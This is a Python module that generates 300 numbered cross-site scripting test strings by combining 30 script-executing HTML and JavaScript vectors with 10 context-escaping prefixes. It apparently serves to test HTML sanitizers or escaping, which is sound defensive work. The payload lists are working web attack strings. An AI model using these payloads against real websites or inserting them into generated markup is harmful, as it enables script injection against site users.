"""Three hundred texts that would run as a program wherever one is taken for markup."""

# What would run. CALL becomes a call with the text's own number.
_ACTIVE = [
    "<script>CALL</script>",
    "<img src=x onerror=CALL>",
    "<svg onload=CALL>",
    "<svg/onload=CALL>",
    "<SVG><ScRiPt>CALL</sCrIpT></SVG>",
    "<iframe srcdoc='<script>CALL</script>'></iframe>",
    "<iframe src=javascript:CALL></iframe>",
    "<iframe onload=CALL></iframe>",
    "<details open ontoggle=CALL>",
    "<video src=x onerror=CALL></video>",
    "<audio src=x onerror=CALL></audio>",
    "<video><source onerror=CALL></video>",
    "<style onload=CALL></style>",
    "<script src=x: onerror=CALL></script>",
    "<link rel=stylesheet href=x: onerror=CALL>",
    "<body onload=CALL>",
    "<svg><animate onbegin=CALL attributeName=x dur=1s></svg>",
    "<svg><a><script>CALL</script></a></svg>",
    "<math><mtext><img src=x onerror=CALL>",
    "<template><p></template><img src=x onerror=CALL>",
    "<style>@keyframes k{}</style><i style='animation:k 1ms' onanimationend=CALL>x</i>",
    "<img srcset=x onerror=CALL>",
    "<input type=image src=x onerror=CALL>",
    "<image src=x onerror=CALL>",
    "<img src='x' onerror='&#x61;&#108;ert(NUMBER)'>",
    # These wait for a click, or for a program that fills in templates.
    "<a href=javascript:CALL>x</a>",
    "<form action=javascript:CALL><button autofocus>x</button></form>",
    "javascript:CALL//",
    "{{constructor.constructor('CALL')()}}",
    "${CALL}`;CALL//",
]
# What gets one out of where the text stands.
_WAYS_OUT = [
    "PAYLOAD",
    '">PAYLOAD',
    "'>PAYLOAD",
    "</textarea></title></style></script>PAYLOAD",
    "-->PAYLOAD",
    "]]>PAYLOAD",
    "&lt;b&gt;PAYLOAD",
    "<b>PAYLOAD</b>",
    '\\"}]}PAYLOAD',
    "*/;PAYLOAD",
]


def hostile_texts() -> list[str]:
    forms = [way.replace("PAYLOAD", active) for active in _ACTIVE for way in _WAYS_OUT]
    return [
        form.replace("CALL", f"alert({number})").replace("NUMBER", str(number))
        for number, form in enumerate(forms)
    ]


def those_that_wait() -> int:
    """How many need a click, or another program, before they run."""
    return 5 * len(_WAYS_OUT)
